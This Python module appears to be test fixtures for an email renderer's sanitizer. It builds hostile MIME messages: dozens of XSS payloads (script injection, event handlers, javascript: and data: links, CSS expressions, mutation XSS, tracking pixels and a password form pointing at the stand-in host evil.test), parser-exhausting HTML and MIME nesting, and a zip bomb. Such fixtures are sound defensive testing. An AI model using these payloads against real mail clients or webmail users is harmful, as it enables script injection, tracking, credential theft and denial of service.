"""Messages that mean harm to whoever shows them: what each is, and its octets."""

# ruff: noqa: E501 - one line each

from __future__ import annotations

import base64
import io
import zipfile

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def whole(body: str, type: str = "text/html; charset=utf-8", more: str = "") -> bytes:
    head = f"From: eve@evil.test\r\nTo: ada@example.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: {type}\r\n"
    return (head + more + "\r\n" + body).encode("utf-8", "surrogateescape")


# Each holds the words "the text", which must be there to read, and nothing of what it tries.
HTML = {
    "script": "<script>alert(1)</script>the text<script src=//evil.test/x.js></script>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>the text",
    "handlers": "<p onclick=alert(1) onmouseover='alert(1)'>the text<img src=x onerror=alert(1)>",
    "javascript link": "<a href='javascript:alert(1)'>the text</a><a href=' jAvAscript&#58;alert(1)'>b</a>",
    "tabs in link": "<a href='java\tscript:alert(1)'>the text</a><a href='&#1;javascript:alert(1)'>b</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>the text</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>the text</a>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'></svg>the text",
    "svg picture": "<img src='data:image/svg+xml;base64,PHN2Zy8+'>the text",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>the text",
    "mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>the text",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>the text',
    "style element": "<style>@import url(//evil.test/a.css);body{background:url(//evil.test/b)}</style>the text",
    "style url": "<p style='background-image:url(http://evil.test/t.gif)'>the text</p>",
    "style escapes": "<p style='width:\\65xpression(alert(1));color:u\\72l(http://evil.test)'>the text</p>",
    "style expression": "<p style='width:expression(alert(1))'>the text</p>",
    "style import": "<p style='color:red;@import \"http://evil.test\"'>the text</p>",
    "position": "<p style='position:fixed;top:0;left:0;z-index:9999;color:red'>the text</p>",
    "link": "<link rel=stylesheet href=//evil.test/a.css><base href=//evil.test/><p>the text",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.test'>the text",
    "form": "<form action=//evil.test><input name=password><button>go</button>the text</form>",
    "frames": "<iframe src=//evil.test></iframe><frameset><frame src=x></frameset><object data=x></object>the text",
    "embed": "<embed src=//evil.test><applet code=x></applet><video src=//evil.test poster=x></video>the text",
    "remote picture": "<img src='http://evil.test/track.gif?ada'><img src=//evil.test/t.gif>the text",
    "srcset": "<img srcset='http://evil.test/a 1x' src=''><picture><source srcset=//evil.test/b></picture>the text",
    "background": "<table background=http://evil.test/t.gif><tr><td background=http://evil.test/u>the text</table>",
    "ping": "<a href=https://ok.test/ ping=http://evil.test>the text</a>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->the text<!-- --!><script>alert(1)</script>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>the text",
    "processing": "<?xml version='1.0'?><?php evil() ?>the text",
    "template": "<template><script>alert(1)</script></template>the text",
    "never closed": "the text<img src='http://evil.test/?",
    "null": "<scr\0ipt>alert(1)</scr\0ipt>the text",
    "import file": "<p>the text<img src='file:///etc/passwd'><img src='cid:nothing'><img src='blob:x'>",
    "id clobber": "<p id=document name=cookie class=secret>the text</p>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>the text",
}

N = 100_000
BOMBS = {
    "200,000 divs deep": "the text" + "<div>" * (2 * N),
    "bold and paragraphs": "the text" + "<b><p>" * (N // 2),
    "tables in tables": "the text" + "<table>" * N,
    "links in links": "the text" + "<a href=x>" * (N // 3),
    "attributes without end": "the text<p " + "a=b " * N + ">",
    "ampersands": "the text" + "&amp" * N,
    "ampersands apart": "the text" + "x&" * N,
    "numbers": "the text" + "&#1" + "0" * N + ";",
    "quotes never closed": "the text" + "<p a='" * N,
    "comments never closed": "the text" + "<!--" * N,
    "styles": "the text<p style='" + "color:red;" * (N // 3) + "'>",
    "a wall of <": "the text" + "<" * N,
}


def nested(depth: int) -> bytes:
    """The text lies in the innermost of so many multiparts."""
    body = "Content-Type: text/html\r\n\r\n<p>the text</p><script>alert(1)</script>\r\n"
    for level in range(depth):
        body = f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n{body}\r\n--b{level}--\r\n'
    return f"From: eve@evil.test\r\nMIME-Version: 1.0\r\n{body}".encode()


def many_parts(count: int) -> bytes:
    part = "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=a\r\n\r\nx\r\n"
    return whole(
        "--b\r\nContent-Type: text/html\r\n\r\nthe text\r\n" + part * count + "--b--\r\n", "multipart/mixed; boundary=b"
    )


def parameters(count: int) -> bytes:
    """RFC 2231's continuations, as many as there may be and out of order."""
    said = "".join(f";\r\n name*{n}*=utf-8''%{n % 100:02d}" for n in range(count, 0, -1))
    return whole(
        f"--b\r\nContent-Type: text/html\r\n\r\nthe text\r\n--b\r\nContent-Type: application/x{said}\r\n\r\nx\r\n--b--\r\n",
        "multipart/mixed; boundary=b",
    )


def zip_of_a_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("bomb", bytes(50_000_000))
    encoded = base64.encodebytes(packed.getvalue()).decode().replace("\n", "\r\n")
    return whole(
        "--b\r\nContent-Type: text/html\r\n\r\nthe text\r\n--b\r\nContent-Type: application/zip\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{encoded}--b--\r\n",
        "multipart/mixed; boundary=b",
    )


def picture(id: str, type: str = "image/png", octets: bytes = PNG, shown: str = "") -> bytes:
    encoded = base64.encodebytes(octets).decode().replace("\n", "\r\n")
    return whole(
        f"--b\r\nContent-Type: text/html\r\n\r\nthe text<img src='cid:{shown or id}'>\r\n--b\r\nContent-Type: {type}\r\n"
        f"Content-ID: <{id}>\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}--b--\r\n",
        "multipart/related; boundary=b",
    )
